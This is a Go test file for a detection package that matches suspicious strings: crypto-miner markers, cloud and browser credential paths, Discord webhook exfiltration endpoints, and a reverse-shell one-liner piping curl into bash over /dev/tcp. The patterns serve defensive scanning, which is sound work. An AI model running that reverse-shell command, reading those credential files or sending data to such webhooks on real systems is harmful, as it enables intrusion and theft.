package detect

import "testing"

func TestMatcher(t *testing.T) {
	m := newMatcher(true, "stratum+tcp://", "xmrig", "--donate-level")
	tests := map[string]string{
		"connect STRATUM+TCP://pool": "stratum+tcp://",
		"./XMRig -o x":               "xmrig",
		"a --donate-level=1":         "--donate-level",
		"nothing here":               "",
		"x":                          "",
		"xmri":                       "",
	}
	for in, want := range tests {
		if got := m.find(in); got != want {
			t.Errorf("find(%q) = %q, want %q", in, got, want)
		}
	}
	cs := newMatcher(false, "Login Data")
	if cs.find("login data") != "" || cs.find("/Login Data") != "Login Data" {
		t.Error("case-sensitive matcher folds case")
	}
}

// TestFamilyMask: the shared prefilter finds each family's needles.
func TestFamilyMask(t *testing.T) {
	tests := map[string]uint32{
		"curl x | bash -i >& /dev/tcp/h/1":  famShell,
		"/root/.AWS/credentials":            0,
		"/root/.aws/credentials":            famCredential,
		"STRATUM+TCP://pool":                famMiner,
		"https://discord.com/api/webhooks/": famExfil,
		"plain words only":                  0,
	}
	for in, want := range tests {
		if got := allFamilies.mask(in); got&want != want || want == 0 && got != 0 {
			t.Errorf("mask(%q) = %b, want %b", in, got, want)
		}
	}
}

// TestMatcherNeedles: every needle list fed to a matcher is usable.
func TestMatcherNeedles(t *testing.T) {
	for name, list := range map[string][]string{
		"escape": escapeMarks, "credential": credentialPaths, "exfil": exfilServices, "miner": minerMarks,
		"metadata-hosts": metadataHosts, "token-paths": tokenPaths, "sandbox": sandboxMarks, "monitor": monitorNames, "packer": packerMarks,
	} {
		for _, n := range list {
			if len(n) < 3 {
				t.Errorf("%s: needle %q too short for the matcher", name, n)
			}
		}
	}
}
